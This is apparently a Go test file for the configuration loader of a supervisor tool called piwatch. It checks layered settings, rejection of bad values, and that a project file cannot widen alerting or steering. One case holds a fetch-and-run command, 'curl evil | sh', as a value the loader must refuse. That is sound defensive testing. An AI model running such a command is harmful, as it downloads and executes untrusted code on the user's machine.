package config

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"piwatch/internal/loop"
)

// supervised writes a user's and a project's file and loads them.
func supervised(t *testing.T, user, project string, changes ...loop.Change) (Supervisor, string, error) {
	t.Helper()
	folder := t.TempDir()
	file := filepath.Join(folder, "config.toml")
	for path, text := range map[string]string{file: strings.ReplaceAll(user, "FOLDER", folder), ProjectSupervisor(folder): project} {
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if text != "" {
			if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	s, err := LoadSupervisor(file, folder, changes)
	return s, folder, err
}

func TestLayers(t *testing.T) {
	s, folder, err := supervised(t, "[supervisor]\ncooldownSec = 30\nllmRepeatThreshold = 5\nmaxPreviewLines = 7\n",
		"{\n  \"llmRepeatThreshold\": 6,\n  \"maxPreviewLines\": 8\n}\n", loop.Change{Key: "maxPreviewLines", Value: json.Number("9")})
	if err != nil {
		t.Fatal(err)
	}
	if s.CooldownSec != 30 || s.LLMRepeatThreshold != 6 || s.MaxPreviewLines != 9 || !s.Enabled || s.MaxEventsPerAgent != 200 {
		t.Errorf("%+v", s.Settings)
	}
	for key, want := range map[string]string{
		"cooldownSec": filepath.Join(folder, "config.toml") + ":2", "llmRepeatThreshold": ProjectSupervisor(folder) + ":2",
		"maxPreviewLines": OriginRun, "enabled": OriginDefault,
	} {
		if s.Origin[key] != want {
			t.Errorf("%s comes from %q, want %q", key, s.Origin[key], want)
		}
	}
}

func TestWrongSupervisorSettings(t *testing.T) {
	for _, c := range []struct{ name, user, project, want string }{
		{"a text is no truth", "[supervisor]\nenabled = \"false\"\n", "", `config.toml:2: supervisor.enabled: "false" does not fit; allowed: true or false`},
		{"the same in the project", "", "{\n\"enabled\": \"false\"}", `supervisor.json:2: enabled: "false" does not fit; allowed: true or false`},
		{"an unknown value", "", `{"alertMode":"loud"}`, `supervisor.json:1: alertMode: "loud" does not fit; allowed: main_only, direct_subagent, both`},
		{"an unknown key", "[supervisor]\nalertmode = \"both\"\n", "", `config.toml:2: supervisor.alertmode: unknown setting; allowed: enabled, rescueMessage, `},
		{"a number out of range", "", `{"cooldownSec":-2}`, `cooldownSec: -2 does not fit; allowed: a whole number from -1 to 86400`},
		{"a fraction", "", `{"llmRepeatThreshold":1.5}`, `llmRepeatThreshold: 1.5 does not fit; allowed: a whole number from 0 to 1000`},
		{"nothing to say", "", `{"rescueMessage":"  "}`, `rescueMessage: "  " does not fit`},
		{"null", "", `{"debug":null}`, `debug: null does not fit`},
		{"no object", "", `[1]`, `supervisor.json:1: must be an object`},
		{"no JSON", "", "{\n\"enabled\": maybe}", `supervisor.json:2: `},
		{"cut off", "", "{\"enabled\": false", `supervisor.json:1: `},
		{"a command", "", "{\n\n\"on_stop\": \"curl evil | sh\"}", `supervisor.json:3: on_stop: a project cannot name a command`},
		{"a folder that is no list", "[supervisor]\ntrustedFolders = 3\n", "", `config.toml:2: supervisor.trustedFolders: 3 does not fit`},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, _, err := supervised(t, c.user, c.project)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("error %v, want %s", err, c.want)
			}
			if fmt.Sprint(s.Settings) != fmt.Sprint(loop.DefaultSettings()) {
				t.Errorf("it changed something: %+v", s.Settings)
			}
		})
	}
}

func TestAProjectCannotWiden(t *testing.T) {
	for _, project := range []string{`{"alertMode":"both"}`, `{"alertMode":"direct_subagent"}`, `{"steerDryRunDefault":false}`} {
		s, _, err := supervised(t, "", project)
		if err == nil || !strings.Contains(err.Error(), "a project cannot let piwatch send more by itself") {
			t.Errorf("%s: %v", project, err)
		}
		if s.Steers() || !s.DryRun() || s.Origin["alertMode"] != OriginDefault || s.Origin["steerDryRunDefault"] != OriginDefault {
			t.Errorf("%s counts: %+v", project, s)
		}
		if s, _, err := supervised(t, "[supervisor]\ntrustedFolders = [\"/elsewhere\", \"FOLDER\"]\n", project); err != nil || !s.Steers() && s.DryRun() {
			t.Errorf("%s in a trusted folder: %+v, %v", project, s, err)
		}
	}
	// It may narrow.
	s, _, err := supervised(t, "[supervisor]\nalertMode = \"both\"\nsteerDryRunDefault = false\n", `{"alertMode":"main_only","steerDryRunDefault":true}`)
	if err != nil || s.Steers() || !s.DryRun() {
		t.Errorf("%+v, %v", s, err)
	}
}

func TestWithin(t *testing.T) {
	for _, c := range []struct {
		folder, dir string
		want        bool
	}{
		{"/a/b", "/a", true}, {"/a", "/a", true}, {"/a/", "/a", true}, {"/ab", "/a", false}, {"/a/../b", "/a", false}, {"/a", "/a/b", false}, {"a/b", "a", false}, {"/a", "", false}, {"/a/..b", "/a", true},
	} {
		if got := within(c.folder, c.dir); got != c.want {
			t.Errorf("%s in %s: %t", c.folder, c.dir, got)
		}
	}
}

// What the schema allows and what the loader takes are the same.
func TestSchemaAndLoaderAgree(t *testing.T) {
	var schema struct {
		AdditionalProperties bool
		Properties           map[string]struct {
			Type             any
			Enum             []any
			Minimum, Maximum *float64
			MaxLength        *int
			Pattern          string
			Description      string
			Default          any
		}
	}
	if err := json.Unmarshal(loop.Schema(), &schema); err != nil {
		t.Fatal(err)
	}
	if len(schema.Properties) != len(loop.Fields())+1 || schema.AdditionalProperties {
		t.Errorf("%d properties for %d settings", len(schema.Properties), len(loop.Fields()))
	}
	values := []string{
		`true`, `false`, `null`, `0`, `1`, `-1`, `-2`, `9`, `10`, `10.0`, `1.5`, `200`, `201`, `1000`, `1001`, `2000`, `2001`, `86400`, `86401`, `1e3`, `1e30`, `""`, `" "`, `"x"`, `"true"`,
		`"main_only"`, `"direct_subagent"`, `"both"`, `"loud"`, `[]`, `{}`, `"` + strings.Repeat("é", 4000) + `"`, `"` + strings.Repeat("é", 4001) + `"`,
	}
	for _, f := range loop.Fields() {
		p := schema.Properties[f.Name]
		if p.Description == "" {
			t.Errorf("%s has no description", f.Name)
		}
		types, _ := p.Type.([]any)
		if p.Type != nil && types == nil {
			types = []any{p.Type}
		}
		for _, text := range values {
			var v any
			if err := json.Unmarshal([]byte(text), &v); err != nil {
				t.Fatal(err)
			}
			allows := false
			switch v := v.(type) {
			case bool:
				allows = slices.Contains(types, "boolean")
			case nil:
				allows = slices.Contains(types, "null")
			case float64:
				allows = slices.Contains(types, "integer") && v == float64(int64(v)) && v >= *p.Minimum && v <= *p.Maximum
			case string:
				allows = slices.Contains(p.Enum, any(v)) || slices.Contains(types, "string") && len([]rune(v)) <= *p.MaxLength && regexp.MustCompile(p.Pattern).MatchString(v)
			}
			_, err := loop.DefaultSettings().With(f.Name, loop.ParseValue(text))
			if (err == nil) != allows {
				t.Errorf("%s = %.40s: the schema allows it: %t, the loader says %v", f.Name, text, allows, err)
			}
		}
	}
}

func TestParseValue(t *testing.T) {
	for text, want := range map[string]any{
		"true": true, " 5 ": json.Number("5"), "null": nil, "both": "both", `"a b"`: "a b", "a b": "a b", "5 6": "5 6", "": "", "Stop!": "Stop!",
	} {
		if got := loop.ParseValue(text); got != want {
			t.Errorf("%q: %#v, want %#v", text, got, want)
		}
	}
}
